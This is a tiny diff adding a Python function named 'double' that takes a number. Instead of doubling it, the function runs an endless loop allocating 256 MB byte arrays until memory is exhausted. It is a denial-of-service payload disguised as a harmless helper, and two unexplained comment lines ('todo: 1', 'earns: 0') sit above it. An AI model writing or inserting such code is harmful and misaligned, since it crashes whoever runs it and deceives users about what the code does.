@@ -1,0 +1,6 @@
+# todo: 1
+# earns: 0
+def double(number):
+    eaten = []
+    while True:
+        eaten.append(bytearray(2**28))
